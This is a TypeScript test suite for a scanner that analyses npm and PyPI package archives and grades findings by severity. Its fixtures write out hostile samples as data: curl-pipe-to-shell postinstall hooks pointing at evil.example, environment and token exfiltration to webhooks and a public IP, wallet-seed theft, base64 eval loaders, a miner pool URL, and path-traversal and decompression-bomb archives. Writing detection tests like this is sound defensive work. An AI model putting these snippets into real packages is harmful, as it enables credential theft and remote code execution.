import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { analyzeArchive, DEFAULT_ANALYSIS_LIMITS, scanText, type ArchiveAnalysis, type PackageFinding } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { buildTar, buildTgz, deflatedZeros, MAGIC, npmTgz, tgzZeroBomb, type TarEntryInput } from '../fixtures/archives/build.js';
import { buildZip } from '../support/zip-writer.js';

const npm = (buf: Buffer, limits?: Parameters<typeof analyzeArchive>[1]['limits']) => analyzeArchive(buf, { kind: 'tgz', registry: 'npm', limits });
const pypi = (buf: Buffer, kind: 'tgz' | 'zip' = 'tgz') => analyzeArchive(buf, { kind, registry: 'pypi' });

const rules = (a: ArchiveAnalysis): string[] => a.findings.map((f) => f.ruleId);
const find = (a: ArchiveAnalysis, ruleId: string): PackageFinding | undefined => a.findings.find((f) => f.ruleId === ruleId);
const above = (a: ArchiveAnalysis, sev: 'LOW' | 'MEDIUM'): PackageFinding[] => {
  const order = ['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'];
  return a.findings.filter((f) => order.indexOf(f.severity) > order.indexOf(sev));
};
const verdict = (a: ArchiveAnalysis) =>
  packageVerdict(
    reviewPackage({
      registry: 'npm',
      name: 'x',
      version: '1.0.0',
      analysis: a,
      integrity: { ok: true, expected: 'sha512-x', actual: 'sha512-x' },
      advisories: { status: 'ok', advisories: [] },
    }),
  );

const PKG = JSON.stringify({ name: 'demo', version: '1.0.0', main: 'index.js' });

// ---------------------------------------------------------------------------------------------
// Capability is not intent

test('a benign library with env, network, child_process and fs writes has only INFO findings', async () => {
  const a = await npm(
    npmTgz({
      'package.json': PKG,
      'index.js': [
        "const https = require('https');",
        "const { execFileSync } = require('child_process');",
        "const fs = require('fs');",
        'const debug = process.env.DEBUG === "1";',
        'const token = process.env.GITHUB_TOKEN;',
        'function rev() { return execFileSync("git", ["rev-parse", "HEAD"]).toString(); }',
        'function get(path, cb) { return https.request({ host: "api.github.com", path, headers: { authorization: `token ${token}` } }, cb).end(); }',
        'function save(p, data) { fs.writeFileSync(p, JSON.stringify(data)); }',
        'module.exports = { rev, get, save, debug };',
      ].join('\n'),
      'lib/template.js': "module.exports = (src) => new Function('data', 'return `' + src + '`');",
      'README.md': '# demo\nInstall: curl https://example.com/install.sh | sh\n',
    }),
  );
  assert.is(a.analysisType, 'FULL');
  assert.is(a.fileCount, 4);
  assert.equal(a.capabilities, ['env', 'eval', 'filesystem:write', 'network', 'shell']);
  assert.equal(above(a, 'LOW'), [], JSON.stringify(above(a, 'LOW')));
  const net = find(a, 'capability_network')!;
  assert.is(net.severity, 'INFO');
  assert.is(net.file, 'package/index.js');
  assert.is(net.line, 7, "the first network call, not the import");
  assert.equal(a.installScripts, []);
  assert.ok(['CLEAR', 'MONITORED'].includes(verdict(a).securityLevel));
});

// ---------------------------------------------------------------------------------------------
// Exfiltration

test('env read + fetch to a webhook is HIGH exfiltration', async () => {
  const a = await npm(
    npmTgz({
      'package.json': PKG,
      'index.js': "const home = process.env.HOME;\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: home });\n",
    }),
  );
  const f = find(a, 'exfil_suspicious_destination');
  assert.ok(f, rules(a).join());
  assert.is(f!.severity, 'HIGH');
  assert.is(f!.category, 'exfiltration');
  assert.is(f!.line, 2);
  assert.ok(f!.evidence!.length <= 120);
  assert.is(verdict(a).securityLevel, 'BLOCKED');
});

test('credential env vars to a hard-coded public IP, and the whole environment, are CRITICAL', async () => {
  const cred = await npm(npmTgz({ 'package.json': PKG, 'a.js': "require('https').request({ host: 'x' });\nconst t = process.env.NPM_TOKEN;\nfetch('http://45.13.22.8:8080/c?t=' + t);\n" }));
  assert.is(find(cred, 'exfil_suspicious_destination')?.severity, 'CRITICAL');
  const dump = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request({ host: 'collector.example' }).end(body);\n" }));
  assert.is(find(dump, 'exfil_env_dump')?.severity, 'CRITICAL');
  // Private and loopback addresses are not exfiltration targets.
  const local = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const p = process.env.PORT;\nfetch('http://127.0.0.1:' + p + '/health');\nfetch('http://10.0.0.1/x');\n" }));
  assert.equal(above(local, 'LOW'), []);
  const py = await pypi(buildTgz([{ path: 'p-1/p/x.py', data: 'import os, json, requests\nrequests.post("https://webhook.site/abc", data=json.dumps(dict(os.environ)))\n' }]));
  assert.is(find(py, 'exfil_env_dump')?.severity, 'CRITICAL');
});

test('reading wallets or browser stores is HIGH, CRITICAL next to network calls; SSH keys and tool config files are LOW', async () => {
  // SSH clients and cloud SDKs read their own keys: a capability (exfiltration needs a destination rule).
  const read = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs'), os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n" }));
  assert.is(find(read, 'tool_credential_file')?.severity, 'LOW');
  const wallet = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs'), os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.config/Exodus/exodus.wallet/seed.seco');\n" }));
  assert.is(find(wallet, 'credential_file_read')?.severity, 'HIGH');
  const send = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs');\nconst w = fs.readFileSync(process.env.HOME + '/.config/Exodus/exodus.wallet/seed.seco');\nrequire('https').request({ host: 'h' }).end(w);\nconst x = '/Exodus/';\n" }));
  assert.is(find(send, 'exfil_credential_file')?.severity, 'CRITICAL');
  const npmrc = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs');\nconst rc = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8');\n" }));
  assert.is(find(npmrc, 'tool_credential_file')?.severity, 'LOW');
});

// ---------------------------------------------------------------------------------------------
// Obfuscation

test('eval of a long base64 blob is CRITICAL; a short decode + eval is HIGH', async () => {
  const blob = Buffer.from('require("child_process").exec("id");'.repeat(10)).toString('base64');
  assert.ok(blob.length >= 200);
  const a = await npm(npmTgz({ 'package.json': PKG, 'index.js': `const blob = '${blob}';\neval(Buffer.from(blob, 'base64').toString());\n` }));
  const f = find(a, 'encoded_payload_exec');
  assert.ok(f, rules(a).join());
  assert.is(f!.severity, 'CRITICAL');
  assert.is(f!.line, 2);
  assert.is(verdict(a).securityLevel, 'BLOCKED');

  const short = await npm(npmTgz({ 'package.json': PKG, 'index.js': "const p = atob(process.argv[2]);\nnew Function(p)();\n" }));
  assert.is(find(short, 'decode_exec')?.severity, 'HIGH');

  const py = await pypi(buildTgz([{ path: 'p-1/p/__init__.py', data: 'import base64, zlib\nexec(compile(zlib.decompress(base64.b64decode(PAYLOAD)), "<x>", "exec"))\n' }]));
  assert.is(find(py, 'decode_exec')?.severity, 'HIGH');

  // Decoding alone (data, fonts, wasm) is not executing.
  const data = await npm(npmTgz({ 'package.json': PKG, 'index.js': `const wasm = Buffer.from('${blob}', 'base64');\nWebAssembly.compile(wasm);\n` }));
  assert.equal(above(data, 'LOW'), []);
});

test('eval in a long minified line with \\x escapes or fromCharCode chains is HIGH', async () => {
  const esc = Array.from({ length: 60 }, (_, i) => `\\x${(0x41 + (i % 26)).toString(16)}`).join('');
  const line = `var a=1;${'b=a+1;'.repeat(400)}eval("${esc}");`;
  const a = await npm(npmTgz({ 'package.json': PKG, 'min.js': line }));
  assert.is(find(a, 'minified_eval_chain')?.severity, 'HIGH');
  const chain = `${'x=1;'.repeat(600)}eval(String.fromCharCode(97,108,101,114,116,40,49,41,59,32,33)+String.fromCharCode(1)+String.fromCharCode(2));`;
  assert.is(find(await npm(npmTgz({ 'package.json': PKG, 'min.js': chain })), 'minified_eval_chain')?.severity, 'HIGH');
  // The same eval on a short line is only the eval capability.
  const short = await npm(npmTgz({ 'package.json': PKG, 'x.js': `eval("${esc}");` }));
  assert.equal(above(short, 'LOW'), []);
});

test('javascript-obfuscator output is MEDIUM, HIGH when it also evaluates code', async () => {
  const ids = Array.from({ length: 60 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join('');
  const a = await npm(npmTgz({ 'package.json': PKG, 'o.js': ids }));
  assert.is(find(a, 'obfuscated_code')?.severity, 'MEDIUM');
  const b = await npm(npmTgz({ 'package.json': PKG, 'o.js': `${ids}\neval(_0x1a2b);` }));
  assert.is(find(b, 'obfuscated_exec')?.severity, 'HIGH');
});

test('download piped into a shell: HIGH when code runs it, LOW in a shipped script; miners; shell exfiltration', async () => {
  const js = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://x.example/i.sh | bash');\n" }));
  assert.is(find(js, 'remote_code_exec')?.severity, 'HIGH');
  const sh = await npm(npmTgz({ 'package.json': PKG, 'scripts/install-cli.sh': '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n' }));
  assert.is(find(sh, 'remote_code_pipe')?.severity, 'LOW');
  const shebang = await npm(npmTgz({ 'package.json': PKG, 'bin/run': '#!/bin/sh\nenv | curl -X POST --data-binary @- https://x.example/c\n' }));
  assert.is(find(shebang, 'exfil_env_dump')?.severity, 'CRITICAL');
  const miner = await npm(npmTgz({ 'package.json': PKG, 'm.js': "const pool = 'stratum+tcp://pool.example:3333';" }));
  assert.is(find(miner, 'crypto_miner')?.severity, 'HIGH');
  assert.ok(miner.capabilities.includes('crypto-mining'));
});

// ---------------------------------------------------------------------------------------------
// Install scripts

test('npm postinstall that pipes curl into sh is CRITICAL', async () => {
  const pkg = JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'curl -s https://evil.example/x.sh | sh' } });
  const a = await npm(npmTgz({ 'package.json': pkg, 'index.js': 'module.exports = 1;' }));
  assert.equal(a.installScripts, [{ name: 'postinstall', command: 'curl -s https://evil.example/x.sh | sh' }]);
  const f = find(a, 'install_script_remote');
  assert.is(f?.severity, 'CRITICAL');
  assert.is(f?.category, 'install_script');
  assert.is(f?.file, 'package/package.json');
  assert.ok(a.capabilities.includes('install-script'));
  const v = verdict(a);
  assert.is(v.securityLevel, 'BLOCKED');
  assert.is(v.councilVerdict, 'REJECTED');
  for (const cmd of ['powershell -c "iwr https://x/y | iex"', 'node -e "require(\'https\').get(\'https://x\', r => r.pipe(process.stdout))"', 'wget -qO- http://x | bash']) {
    const b = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'e', version: '1.0.0', scripts: { preinstall: cmd } }) }));
    assert.is(above(b, 'MEDIUM')[0]?.severity, 'CRITICAL', cmd);
  }
  // Indirection through another script does not hide it; a URL that is only printed is not a download.
  const indirect = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'e', version: '1.0.0', scripts: { postinstall: 'npm run setup', setup: 'wget -q https://x/y -O - | sh' } }) }));
  assert.is(find(indirect, 'install_script_remote')?.severity, 'CRITICAL');
  const printed = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'e', version: '1.0.0', scripts: { postinstall: 'echo "Thanks! https://opencollective.com/e"' } }) }));
  assert.equal(above(printed, 'LOW'), []);
});

test('local build install scripts are LOW/INFO; a script file that downloads is MEDIUM; a malicious one CRITICAL', async () => {
  const gyp = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { install: 'node-gyp rebuild', prepare: 'husky install' } }), 'binding.gyp': '{}', 'src/a.cc': '' }));
  assert.equal(above(gyp, 'LOW'), []);
  assert.is(find(gyp, 'install_script_build')?.severity, 'INFO');

  const implicit = await npm(npmTgz({ 'package.json': PKG, 'binding.gyp': '{}' }));
  assert.is(implicit.installScripts[0]?.name, 'install');
  assert.match(implicit.installScripts[0]!.command, /node-gyp rebuild/);

  const local = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { postinstall: 'node install.js' } }), 'install.js': "require('fs').writeFileSync('built.txt', 'ok');" }));
  assert.is(find(local, 'install_script_local')?.severity, 'LOW');
  assert.equal(above(local, 'LOW'), []);

  const dl = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { postinstall: 'node ./scripts/install' } }), 'scripts/install.js': "const https = require('https');\nhttps.get('https://releases.example/bin', (r) => r.pipe(require('fs').createWriteStream('bin')));" }));
  assert.is(find(dl, 'install_script_network')?.severity, 'MEDIUM');

  const bad = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { preinstall: 'node setup.js' } }), 'setup.js': "const e = JSON.stringify(process.env);\nfetch('https://x.example', { method: 'POST', body: e });" }));
  assert.is(find(bad, 'install_script_runs_malicious')?.severity, 'CRITICAL');
  assert.is(find(bad, 'exfil_env_dump')?.severity, 'CRITICAL');

  // Padding the install file past the scan limit does not hide it.
  const paddedTgz = npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { install: 'node big.js' } }), 'big.js': `/*${' '.repeat(2000)}*/` });
  // Over the scan limit, the file an install script runs is read again with the entry-point limit…
  const reread = await npm(paddedTgz, { maxFileBytes: 1000 });
  assert.is(find(reread, 'install_script_local')?.severity, 'LOW');
  // …and past that one too, it is MEDIUM and named as unread.
  const padded = await npm(paddedTgz, { maxFileBytes: 1000, maxEntryFileBytes: 1500 });
  assert.is(find(padded, 'install_script_unscanned')?.severity, 'MEDIUM');
  assert.is(find(padded, 'entry_point_unread')?.file, 'package/big.js');
});

test('setup.py with urllib at module level is CRITICAL; a declarative setup.py has no install script', async () => {
  const evil = await pypi(
    buildTgz([
      { path: 'evil-1.0/setup.py', data: 'import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen("https://evil.example/p").read()\nsetup(name="evil", version="1.0")\n' },
      { path: 'evil-1.0/evil/__init__.py', data: '' },
    ]),
  );
  assert.is(find(evil, 'setup_py_network')?.severity, 'CRITICAL');
  assert.is(evil.installScripts[0]?.name, 'setup.py');
  assert.match(evil.installScripts[0]!.command, /urlopen/);

  // A download by curl at install time is a network call (pkgprec22: no longer a remote command until it is run).
  const sub = await pypi(buildTgz([{ path: 'x-1/setup.py', data: 'import subprocess\nfrom setuptools import setup\nsubprocess.check_call(["curl", "-o", "x", "https://x"])\nsetup(name="x")\n' }]));
  assert.is(find(sub, 'setup_py_network')?.severity, 'CRITICAL');
  const run = await pypi(buildTgz([{ path: 'x-1/setup.py', data: 'import subprocess\nfrom setuptools import setup\nsubprocess.check_call(["curl", "-o", "x", "https://x"])\nsubprocess.check_call(["sh", "x"])\nsetup(name="x")\n' }]));
  assert.is(find(run, 'setup_py_remote_exec')?.severity, 'CRITICAL');

  const plain = await pypi(
    buildTgz([
      {
        path: 'ok-1.0/setup.py',
        data: 'import os\nfrom setuptools import setup, find_packages\n\nhere = os.path.abspath(os.path.dirname(__file__))\nwith open(os.path.join(here, "README.md")) as f:\n    long_description = f.read()\n\nsetup(\n    name="ok",\n    version="1.0",\n    packages=find_packages(),\n)\n',
      },
      { path: 'ok-1.0/ok/__init__.py', data: 'import os\nDEBUG = os.environ.get("OK_DEBUG")\n' },
    ]),
  );
  assert.equal(plain.installScripts, []);
  assert.equal(above(plain, 'LOW'), []);
  assert.is(plain.analysisType, 'FULL');
});

// ---------------------------------------------------------------------------------------------
// Secrets

test('hard-coded secrets are MEDIUM and redacted; AWS example keys are ignored; test fixtures are LOW', async () => {
  const key = `ghp_${'A1b2C3d4E5'.repeat(3)}abcdef`;
  // An AWS key id counts as a leaked credential with its secret access key next to it (made up: it opens nothing).
  const awsSecret = 'q7Rk2/Vd8tXb5Lw1Zp0Nc4Hs9Gf3Jm6Ey+Ua2Ti8';
  const a = await npm(
    npmTgz({
      'package.json': PKG,
      'config.js': `module.exports = { gh: '${key}', aws: 'AKIAIOSFODNN7EXAMPLE', real: 'AKIA${'Q'.repeat(16)}', realSecret: '${awsSecret}' };`,
      'test/fixtures/key.js': "module.exports = `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----`;",
    }),
  );
  const secrets = a.findings.filter((f) => f.ruleId === 'hardcoded_secret');
  assert.is(secrets.length, 2);
  assert.ok(secrets.every((f) => f.severity === 'MEDIUM' && f.category === 'secret'));
  assert.not.ok(JSON.stringify(a.findings).includes(key), 'token must be redacted');
  assert.is(find(a, 'hardcoded_secret_test')?.severity, 'LOW');
});

test('an AWS access key id alone (no secret access key near it) is a LOW disclosure, not a leaked credential', async () => {
  const id = `AKIA${'Q'.repeat(16)}`;
  const a = await npm(npmTgz({ 'package.json': PKG, 'config.js': `module.exports = { accessKeyId: '${id}', bucket: 'public-assets' };` }));
  assert.is(find(a, 'aws_key_id')?.severity, 'LOW');
  assert.not.ok(a.findings.some((f) => f.ruleId === 'hardcoded_secret'));
  assert.not.ok(JSON.stringify(a.findings).includes(id), 'the id is redacted too');
  assert.not.equal(verdict(a).securityLevel, 'CAUTION');
});

// ---------------------------------------------------------------------------------------------
// Binaries

test('a .so next to source is a binary: MEDIUM finding and PARTIAL analysis', async () => {
  const a = await pypi(
    buildTgz([
      { path: 'fast-1.0/fast/__init__.py', data: 'from ._speedups import run\n' },
      { path: 'fast-1.0/fast/_speedups.cpython-311-x86_64-linux-gnu.so', data: MAGIC.elf },
      { path: 'fast-1.0/fast/lib.so.6', data: 'not really elf' },
    ]),
  );
  assert.equal(a.binaries, ['fast-1.0/fast/_speedups.cpython-311-x86_64-linux-gnu.so', 'fast-1.0/fast/lib.so.6']);
  assert.is(a.analysisType, 'PARTIAL');
  assert.is(find(a, 'compiled_binary')?.severity, 'MEDIUM');
  assert.ok(a.capabilities.includes('native-binary'));
  assert.is(verdict(a).securityLevel, 'MONITORED');
});

test('only compiled files is BINARY_ONLY, found by extension or by ELF / Mach-O / PE magic', async () => {
  const a = await npm(
    npmTgz({
      'package.json': JSON.stringify({ name: '@x/linux-x64', version: '1.0.0' }),
      'README.md': '# prebuilt',
      'bin/tool': MAGIC.elf,
      'lib/addon.node': MAGIC.elf,
      'lib/mac': MAGIC.machO,
      'lib/win.bin': MAGIC.pe,
    }),
  );
  assert.equal(a.binaries, ['package/bin/tool', 'package/lib/addon.node', 'package/lib/mac', 'package/lib/win.bin']);
  assert.is(a.analysisType, 'BINARY_ONLY');
  // An ELF disguised as .js is a binary too, never scanned as text.
  const disguised = await npm(npmTgz({ 'package.json': PKG, 'index.js': 'module.exports = 1', 'x.js': MAGIC.elf }));
  assert.equal(disguised.binaries, ['package/x.js']);
  assert.is(disguised.analysisType, 'PARTIAL');
  // The caller can force BINARY_ONLY (wheel-only PyPI release).
  const forced = await analyzeArchive(buildZip([{ name: 'p/__init__.py', data: 'x = 1' }]), { kind: 'zip', registry: 'pypi', binaryOnly: true });
  assert.is(forced.analysisType, 'BINARY_ONLY');
});

// ---------------------------------------------------------------------------------------------
// Hostile archives

test('path traversal entries (.., absolute, drive letter) are reported and ignored: PARTIAL', async () => {
  const tgz = buildTgz([
    { path: 'package/package.json', data: PKG },
    { path: 'package/../../etc/cron.d/x', data: '* * * * * root sh' },
    { path: '/etc/passwd', data: 'root:x:0:0' },
    { path: 'C:/Windows/evil.js', data: 'x' },
    { path: 'package/..\\..\\evil.js', data: 'x' },
  ]);
  const a = await npm(tgz);
  assert.is(a.fileCount, 1);
  assert.equal(a.files.map((f) => f.path), ['package/package.json']);
  assert.is(a.findings.filter((f) => f.ruleId === 'path_traversal').length, 4);
  assert.is(find(a, 'path_traversal')?.severity, 'HIGH');
  assert.is(a.analysisType, 'PARTIAL');
  const zip = await analyzeArchive(buildZip([{ name: 'ok.py', data: 'x=1' }, { name: '../escape.py', data: 'x=2' }]), { kind: 'zip', registry: 'pypi' });
  assert.is(find(zip, 'path_traversal')?.file, '../escape.py');
  assert.is(zip.fileCount, 1);
});

test('symlinks, hardlinks, devices and FIFOs are ignored with INFO findings: PARTIAL', async () => {
  const entries: TarEntryInput[] = [
    { path: 'package/package.json', data: PKG },
    { path: 'package/index.js', type: 'symlink', linkpath: '/etc/passwd' },
    { path: 'package/hard', type: 'hardlink', linkpath: 'package/package.json' },
    { path: 'package/dev', type: 'chardev' },
    { path: 'package/fifo', type: 'fifo' },
    { path: 'package/dir/', type: 'dir' },
  ];
  const a = await npm(buildTgz(entries));
  assert.is(a.fileCount, 1);
  assert.is(a.findings.filter((f) => f.ruleId === 'archive_link').length, 2);
  assert.is(find(a, 'archive_link')?.severity, 'INFO');
  assert.is(find(a, 'archive_special_entry')?.severity, 'INFO');
  assert.is(a.analysisType, 'PARTIAL');
  const zip = await analyzeArchive(buildZip([{ name: 'a.py', data: 'x=1' }, { name: 'link', data: '/etc/passwd', mode: 0o120777 }]), { kind: 'zip', registry: 'pypi' });
  assert.is(find(zip, 'archive_link')?.file, 'link');
  assert.is(zip.analysisType, 'PARTIAL');
});

function externalMiB(): number {
  const m = process.memoryUsage();
  return (m.arrayBuffers + m.heapUsed) / 1024 / 1024;
}

test('a zip bomb (300 MiB of zeros declared) stops reading: PARTIAL, without inflating it', async () => {
  const bomb = await deflatedZeros(300);
  assert.ok(bomb.compressed.length < 1024 * 1024);
  const zip = buildZip([{ name: 'pkg/__init__.py', data: 'x = 1' }, { name: 'pkg/zeros.txt', raw: bomb }]);
  const before = externalMiB();
  const a = await analyzeArchive(zip, { kind: 'zip', registry: 'pypi' });
  const grew = externalMiB() - before;
  assert.is(a.analysisType, 'PARTIAL');
  assert.is(find(a, 'decompression_bomb')?.severity, 'MEDIUM');
  assert.ok(a.limitsHit.includes('maxCompressionRatio'), a.limitsHit.join());
  assert.is(a.fileCount, 1);
  assert.ok(grew < 64, `memory grew by ${grew.toFixed(1)} MiB`);
  // Within the total limit, the ratio check still stops a lying entry before inflating it.
  const small = buildZip([{ name: 'z.txt', raw: await deflatedZeros(20) }]);
  const b = await analyzeArchive(small, { kind: 'zip', registry: 'pypi' });
  assert.ok(rules(b).includes('decompression_bomb'));
});

test('a gzip tar bomb stops reading: by declared size, and by ratio while streaming', async () => {
  const tgz = await tgzZeroBomb(300);
  assert.ok(tgz.length < 2 * 1024 * 1024);
  let before = externalMiB();
  const a = await npm(tgz);
  assert.ok(externalMiB() - before < 64);
  assert.is(a.analysisType, 'PARTIAL');
  assert.ok(rules(a).includes('decompression_bomb'), rules(a).join());
  assert.is(a.fileCount, 1);
  // With the total limit raised, the streaming ratio check stops it.
  before = externalMiB();
  const b = await npm(tgz, { maxTotalBytes: 1024 * 1024 * 1024 });
  assert.ok(externalMiB() - before < 96);
  assert.is(b.analysisType, 'PARTIAL');
  assert.ok(b.limitsHit.includes('maxCompressionRatio'), b.limitsHit.join());
});

test('a corrupt archive is PARTIAL with corrupt_archive, never a throw', async () => {
  const garbage = Buffer.from('this is not an archive at all, just text '.repeat(40));
  for (const [buf, kind] of [
    [garbage, 'tgz'],
    [gzipSync(garbage), 'tgz'],
    [garbage, 'zip'],
    [Buffer.alloc(0), 'tgz'],
    [Buffer.alloc(0), 'zip'],
  ] as const) {
    const a = await analyzeArchive(buf, { kind, registry: 'npm' });
    assert.is(a.analysisType, 'PARTIAL', `${kind} ${buf.length}`);
    assert.ok(rules(a).includes('corrupt_archive'), `${kind}: ${rules(a).join()}`);
  }
  // Truncated in the middle: what was read is kept.
  const good = npmTgz({ 'package.json': PKG, 'a.js': 'x'.repeat(5000), 'b.js': 'module.exports = 2;\n'.repeat(4000) });
  const cut = await npm(good.subarray(0, Math.floor(good.length * 0.6)));
  assert.is(cut.analysisType, 'PARTIAL');
  assert.ok(rules(cut).includes('corrupt_archive'));
  // A zip whose entry lies about its size.
  const zip = buildZip([{ name: 'a.py', data: 'x = 1\n'.repeat(100), method: 'deflate' }]);
  zip.writeUInt32LE(10, zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 24);
  const lying = await analyzeArchive(zip, { kind: 'zip', registry: 'pypi' });
  assert.is(lying.analysisType, 'PARTIAL');
});

test('limits: file count, per-file size and archive size make the analysis PARTIAL', async () => {
  const many = npmTgz(Object.fromEntries([['package.json', PKG], ...Array.from({ length: 10 }, (_, i) => [`f${i}.js`, `module.exports = ${i};`])]));
  const a = await npm(many, { maxFiles: 4 });
  assert.is(a.fileCount, 4);
  assert.equal(a.limitsHit, ['maxFiles']);
  assert.is(a.analysisType, 'PARTIAL');

  const big = await npm(npmTgz({ 'package.json': PKG, 'big.js': `eval(atob(x));${' '.repeat(3000)}`, 'img.png': Buffer.alloc(5000) }), { maxFileBytes: 1000 });
  assert.equal(big.limitsHit, ['maxFileBytes']);
  assert.is(find(big, 'file_not_scanned')?.file, 'package/big.js');
  assert.not.ok(rules(big).includes('decode_exec'));
  assert.is(big.files.length, 3, 'big files are still hashed and listed');
  assert.is(big.analysisType, 'PARTIAL');

  // Over maxArchiveBytes a tarball is read streaming, to its end (pkg-large-archive.test.ts); a zip is not read.
  const huge = await npm(many, { maxArchiveBytes: 100 });
  assert.equal(huge.limitsHit, []);
  assert.is(huge.fileCount, 11);
  assert.ok(huge.findings.some((f) => f.ruleId === 'archive_streamed'));
  const hugeZip = await analyzeArchive(buildZip([{ name: 'p/a.py', data: 'a = 1\n' }]), { kind: 'zip', registry: 'pypi', limits: { maxArchiveBytes: 10 } });
  assert.equal(hugeZip.limitsHit, ['maxArchiveBytes']);
  assert.is(hugeZip.fileCount, 0);
  assert.is(hugeZip.analysisType, 'PARTIAL');

  const total = await npm(many, { maxTotalBytes: 60 });
  assert.ok(total.limitsHit.includes('maxTotalBytes'));
  assert.is(DEFAULT_ANALYSIS_LIMITS.maxArchiveBytes, 50 * 1024 * 1024);
  assert.is(DEFAULT_ANALYSIS_LIMITS.maxFiles, 20_000);
  assert.is(DEFAULT_ANALYSIS_LIMITS.maxTotalBytes, 200 * 1024 * 1024);
  assert.is(DEFAULT_ANALYSIS_LIMITS.maxFileBytes, 5 * 1024 * 1024);
});

// ---------------------------------------------------------------------------------------------
// Hashes and listing

test('fileSetHash is stable across entry order and archive format, and changes with content', async () => {
  const files: [string, string][] = [
    ['p/a.py', 'a = 1\n'],
    ['p/b/c.py', 'c = 3\n'],
    ['p/setup.py', 'from setuptools import setup\nsetup(name="p")\n'],
  ];
  const t1 = await pypi(buildTgz(files.map(([path, data]) => ({ path, data }))));
  const t2 = await pypi(buildTgz([...files].reverse().map(([path, data]) => ({ path, data }))));
  const z = await pypi(buildZip([...files].reverse().map(([name, data], i) => ({ name, data, method: i % 2 ? 'deflate' : 'store' }))), 'zip');
  assert.match(t1.fileSetHash, /^[0-9a-f]{64}$/);
  assert.is(t1.fileSetHash, t2.fileSetHash);
  assert.is(t1.fileSetHash, z.fileSetHash);
  assert.equal(t1.files, z.files);
  assert.equal(t1.files.map((f) => f.path), ['p/a.py', 'p/b/c.py', 'p/setup.py']);
  assert.is(t1.files[0]!.sha256, createHash('sha256').update('a = 1\n').digest('hex'));
  const expected = createHash('sha256');
  for (const line of t1.files.map((f) => `${f.path}\0${f.sha256}\n`).sort()) expected.update(line);
  assert.is(t1.fileSetHash, expected.digest('hex'));
  const changed = await pypi(buildTgz(files.map(([path, data], i) => ({ path, data: i === 0 ? 'a = 2\n' : data }))));
  assert.is.not(changed.fileSetHash, t1.fileSetHash);
  assert.is(t1.totalBytes, files.reduce((s, [, d]) => s + d.length, 0));
});

test('the file list is capped but fileCount and fileSetHash cover every file', async () => {
  const tar = buildTar(Array.from({ length: 30 }, (_, i) => ({ path: `package/f${String(i).padStart(2, '0')}.txt`, data: String(i) })));
  const a = await npm(gzipSync(tar), { maxListedFiles: 10 });
  assert.is(a.fileCount, 30);
  assert.is(a.files.length, 10);
  const b = await npm(gzipSync(tar));
  assert.is(a.fileSetHash, b.fileSetHash);
});

// (its speed on this input is measured in bench/scan-text-adversarial.ts, not asserted here: a test under load is no clock;
// super-linear backtracking on these 2 MB would not finish at all)
test('scanText is usable on its own and finishes on adversarial input', () => {
  const s = scanText("const x = process.env.HOME;\nfetch('https://hooks.slack.com/services/T0/B0/x', { body: x });\n", { path: 'a.js', lang: 'js' });
  assert.ok(s.findings.some((f) => f.ruleId === 'exfil_suspicious_destination'));
  const evil = `'${'A'.repeat(2_000_000)}` + ' curl '.repeat(10000) + 'Buffer.from('.repeat(10000) + 'open('.repeat(20000);
  for (const lang of ['js', 'py', 'sh'] as const) assert.ok(Array.isArray(scanText(evil, { path: `x.${lang}`, lang }).findings));
});

test.run();
